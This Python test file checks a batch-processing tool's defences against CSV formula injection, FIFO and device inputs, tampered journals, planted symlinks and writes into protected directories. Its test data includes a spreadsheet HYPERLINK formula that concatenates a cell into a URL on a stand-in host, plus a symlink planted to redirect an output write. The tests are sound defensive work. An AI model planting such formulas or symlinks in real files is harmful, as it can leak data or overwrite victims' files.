"""Batches under attack, in process (issue 35): the `run_batch` tool and `manager.run_batch` on
the scripted model with real files: formulas in a CSV output, a FIFO or a device as input, a
tampered journal, a symlink planted at the output's temporary name, an output in the home,
a journal that cannot be written, a journal id used twice, a model client that raises."""

from __future__ import annotations

import asyncio
import csv
import gc
import io
import os
import stat
import tracemalloc
from pathlib import Path
from typing import Any

import orjson
import pytest
from test_batch import engine, lines, parent, real, script, work, write_csv

from subsessions import BatchError, Engine, Session, SessionConfig
from subsessions.batch import planning
from subsessions.batch.journal import journal_path
from subsessions.models.base import ModelRequest
from subsessions.testing import WORKER, Script, call, failure, first_prompt, outputs, value

__all__ = ["engine", "parent", "script"]  # the fixtures, imported so that pytest finds them here

FORMULAS = ["=1+2", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tx", "\rx"]
HYPERLINK = '=HYPERLINK("http://x?"&A1,"open")'


def batch_call(output: str, input_path: str = "in.csv", **changes: Any) -> dict[str, Any]:
    return call("run_batch", **{"session_type": "worker", "input_path": input_path,
                                "prompt": "Do {name}", "output_path": output,
                                "max_concurrency": None, "budget": None, **changes})


async def tool_answers(parent: Session, script: Script, *calls: dict[str, Any]) -> list[Any]:
    """The parent's model makes each `run_batch` call in turn; their outputs."""
    script.play("parent task", [lambda outs, c=c: [c] for c in calls])
    await parent.send_and_wait("parent task")
    return outputs(script.seen["parent task"][-1])


async def test_a_csv_output_writes_formulas_as_text_and_jsonl_keeps_them(
        parent: Session, script: Script) -> None:
    rows = [["name", "@note"], *([f"n{i}", cell] for i, cell in enumerate(FORMULAS))]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    (work(parent) / "in.csv").write_text(buffer.getvalue())
    for i in range(len(FORMULAS)):
        script.handlers[f"Do n{i}"] = lambda request: [HYPERLINK]
    outs = await tool_answers(parent, script, batch_call("out.csv"), batch_call("out.jsonl"))
    assert value(outs[0])["completed"] == value(outs[1])["completed"] == len(FORMULAS)
    text = (work(parent) / "out.csv").read_bytes().decode()  # no newline translated
    header, *written = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["name", "'@note", "item", "status", "result", "error", "session_id",
                      "usage"]
    assert sorted((row[0], row[1], row[4]) for row in written) == [
        (f"n{i}", "'" + cell, "'" + HYPERLINK) for i, cell in enumerate(FORMULAS)]
    assert {o["result"] for o in lines(work(parent) / "out.jsonl")} == {HYPERLINK}


def device_node(path: Path) -> None:
    """A character device named like an input: /dev/zero's (1, 5), made with mknod."""
    try:
        os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 5))
    except PermissionError:
        pytest.skip("making a device node needs CAP_MKNOD (root)")


async def test_a_fifo_or_a_device_as_input_is_refused_at_once(
        parent: Session, script: Script, home: Path) -> None:
    os.mkfifo(work(parent) / "fifo.csv")  # nobody writes: opening it to read would wait
    device_node(work(parent) / "zero.csv")
    outs = await tool_answers(parent, script, batch_call("a.jsonl", "fifo.csv"),
                              batch_call("b.jsonl", "zero.csv"))
    at = real(work(parent))
    assert failure(outs[0]) == (f"input {at}/fifo.csv is a FIFO, not a regular file; name a "
                                ".csv or .jsonl file")
    assert failure(outs[1]) == (f"input {at}/zero.csv is a device, not a regular file; name "
                                "a .csv or .jsonl file")
    assert not (home / "batches").exists() or not any((home / "batches").iterdir())


TAMPERED = {  # how a journal's ending (line 2, item 2 completed) is changed; what is refused
    "line -1": (lambda r: {**r, "item": -1}, "line 2: no item of the input starts on line -1"),
    "line 10**11": (lambda r: {**r, "item": 100_000_000_000},
                    "line 2: no item of the input starts on line 100000000000"),
    "line 999": (lambda r: {**r, "item": 999}, "line 2: no item of the input starts on line 999"),
    "a blank line": (lambda r: {**r, "item": 3}, "line 2: no item of the input starts on line 3"),
    "a boolean": (lambda r: {**r, "item": True},
                  "line 2: an item's ending lacks its line, status or output"),
    "unknown status": (lambda r: {**r, "status": "done"}, "line 2: unknown status 'done'"),
    "duplicate ending": (lambda r: [r, r], "line 3: a second ending of item 1, which had "
                         "completed"),
    "bad JSON": (lambda r: b'{"type": "item", "item": 2,\n', "line 2: not a JSON object"),
    "header total": ("total", "line 1: its first line is not this batch's header"),
    "header input path": ("input_path", "line 1: its first line is not this batch's header"),
}


@pytest.mark.parametrize("case", list(TAMPERED))
async def test_a_tampered_journal_is_refused_in_one_line_and_left_as_it_is(
        parent: Session, home: Path, case: str) -> None:
    (work(parent) / "in.jsonl").write_text('{"name": "a"}\n{"name": "b"}\n\n')
    done = await parent.subsessions.run_batch("worker", "in.jsonl", "Do {name}", "out.jsonl",
                                              max_concurrency=1)
    assert done.completed == 2
    journal = journal_path(home, done.batch_id)
    header, first, *rest = journal.read_bytes().splitlines(keepends=True)
    ending = orjson.loads(first)
    assert (ending["item"], ending["status"]) == (1, "completed")
    change, problem = TAMPERED[case]
    if isinstance(change, str):  # a header field of the wrong type
        header = orjson.dumps({**orjson.loads(header), change: "2" if change == "total" else 5})
        made = [header + b"\n", first]
    else:
        changed = change(ending)
        made = [changed] if isinstance(changed, bytes) else [
            orjson.dumps(r) + b"\n" for r in (changed if isinstance(changed, list) else [changed])]
        made.insert(0, header)
    journal.write_bytes(b"".join([*made, *rest]))
    before = journal.read_bytes()
    output = (work(parent) / "out.jsonl").read_bytes()
    tracemalloc.start()
    try:
        with pytest.raises(BatchError) as refused:
            await parent.subsessions.run_batch("worker", "", "", "", resume=done.batch_id)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(refused.value) == (f"batch journal {journal} is damaged ({problem}); it is left "
                                  "as it is")
    assert journal.read_bytes() == before
    assert (work(parent) / "out.jsonl").read_bytes() == output
    assert peak < 4 << 20  # nothing in proportion to a line number the journal gave


async def test_a_symlink_planted_at_the_outputs_temporary_name_is_not_followed(
        parent: Session, script: Script, tmp_path: Path) -> None:
    write_csv(work(parent) / "in.csv", 2)
    victim = tmp_path / "victim.txt"  # outside the workspace
    victim.write_text("precious\n")
    planted = work(parent) / f".out.jsonl.{os.getpid()}.tmp"  # the name used to be this
    planted.symlink_to(victim)
    outs = await tool_answers(parent, script, batch_call("out.jsonl"))
    assert victim.read_text() == "precious\n"
    assert planted.is_symlink() and os.readlink(planted) == str(victim)
    assert value(outs[0])["completed"] == 2
    out = work(parent) / "out.jsonl"
    assert not out.is_symlink() and len(lines(out)) == 2
    assert sorted(p.name for p in work(parent).iterdir()) == sorted(
        ["in.csv", "out.jsonl", planted.name])  # no temporary file left


async def test_run_batch_cannot_write_over_a_rollout_of_a_home_inside_the_workspace(
        tmp_path: Path) -> None:
    script = Script(route=first_prompt)
    async with Engine(tmp_path / "home", model_client=script.model) as engine:
        other = await engine.create_session(SessionConfig(cwd=str(tmp_path)))
        await other.send_and_wait("a session whose rollout is there")
        rollout = Path(other.recorder.path)
        before = await asyncio.to_thread(rollout.read_bytes)
        parent = await engine.create_session(SessionConfig(
            custom_agents=(WORKER,), cwd=str(tmp_path), max_children=8))
        write_csv(tmp_path / "in.csv", 2)
        named = str(rollout.relative_to(tmp_path))
        outs = await tool_answers(parent, script, batch_call(named))
    assert failure(outs[0]) == (f"output {named} is in the engine's home {tmp_path / 'home'}, "
                                "which stays read-only in the sandbox")
    assert await asyncio.to_thread(rollout.read_bytes) == before
    assert not any((tmp_path / "home" / "batches").glob("*.jsonl"))


def descriptor_of(path: Path) -> int:
    """The descriptor this process holds on `path` (what /proc says)."""
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}") == str(path):
                return int(name)
        except OSError:
            continue
    raise AssertionError(f"{path} is not open")


async def test_an_ending_whose_journal_line_fails_gets_no_output_line(
        parent: Session, script: Script, home: Path) -> None:
    write_csv(work(parent) / "in.csv", 4)
    script.hold("Do item2")
    run = asyncio.ensure_future(parent.subsessions.run_batch(
        "worker", "in.csv", "Do {name}", "out.jsonl", max_concurrency=1))
    await script.started("Do item2")  # items 0 and 1 ended (one at a time) and are journaled
    [journal] = (home / "batches").iterdir()
    full = os.open("/dev/full", os.O_WRONLY | os.O_CLOEXEC)  # each write: ENOSPC, a full disk
    try:
        os.dup2(full, descriptor_of(journal))
    finally:
        os.close(full)
    script.answer("Do item2", ["done"])
    with pytest.raises(BatchError) as stopped:
        await run
    assert str(stopped.value) == (f"batch journal {journal} cannot be written: No space left "
                                  "on device; the batch stops")
    out = work(parent) / "out.jsonl"
    assert sorted(o["item"] for o in lines(out)) == [2, 3]  # item2 (line 4): none
    assert [r["item"] for r in lines(journal) if r["type"] == "item"] == [2, 3]
    again = await parent.subsessions.run_batch("worker", "", "", "", resume=journal.stem)
    assert (again.completed, again.failed) == (4, 0)  # nothing was lost
    assert sorted(o["item"] for o in lines(out)) == [2, 3, 4, 5]


async def test_a_new_batch_never_appends_to_a_journal_of_the_same_id(
        parent: Session, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_csv(work(parent) / "in.csv", 2)
    first = await parent.subsessions.run_batch("worker", "in.csv", "Do {name}", "out.jsonl")
    journal = journal_path(home, first.batch_id)
    before = journal.read_bytes()
    # ids are uuid7 (time and 62 random bits): a collision, as a forked process sharing the
    # id generator's random pool could make one, is forced here
    monkeypatch.setattr(planning, "new_session_id", lambda: first.batch_id)
    write_csv(work(parent) / "other.csv", 3)
    with pytest.raises(BatchError) as refused:
        await parent.subsessions.run_batch("worker", "other.csv", "Do {name}", "new.jsonl")
    assert str(refused.value) == (f"batch {first.batch_id} exists already ({journal}); it is "
                                  "left as it is: start the batch again")
    assert journal.read_bytes() == before
    assert not (work(parent) / "new.jsonl").exists()


async def test_a_model_client_raising_fails_its_item_once_with_its_message(
        parent: Session, script: Script, home: Path) -> None:
    await model_client_raising(parent, script, home)


async def test_a_model_client_raising_leaves_no_task_exception_unretrieved(
        parent: Session, script: Script, home: Path, caplog: pytest.LogCaptureFixture) -> None:
    await model_client_raising(parent, script, home)
    gc.collect()  # an unretrieved task's exception is logged when the task is collected
    await asyncio.sleep(0)
    assert [r.getMessage() for r in caplog.records if "never retrieved" in r.getMessage()] == []


async def model_client_raising(parent: Session, script: Script, home: Path) -> None:
    """Item `Do item1` (line 3) meets a model client raising `RuntimeError`; it fails alone,
    with that message, once: in the answer, the journal and the output."""
    write_csv(work(parent) / "in.csv", 3)

    def broken(request: ModelRequest) -> list[str]:
        raise RuntimeError("model client broke")

    script.handlers["Do item1"] = broken
    outs = await tool_answers(parent, script, batch_call("out.jsonl"))
    answer = value(outs[0])
    assert (answer["completed"], answer["failed"]) == (2, 1)
    assert answer["failed_items"] == [{"item": 3, "error": "model client broke"}]
    endings = [r for r in lines(journal_path(home, answer["batch_id"])) if r["type"] == "item"]
    assert [r["error"] for r in endings if r["item"] == 3] == ["model client broke"]
    assert [o["error"] for o in lines(work(parent) / "out.jsonl") if o["item"] == 3] == [
        "model client broke"]
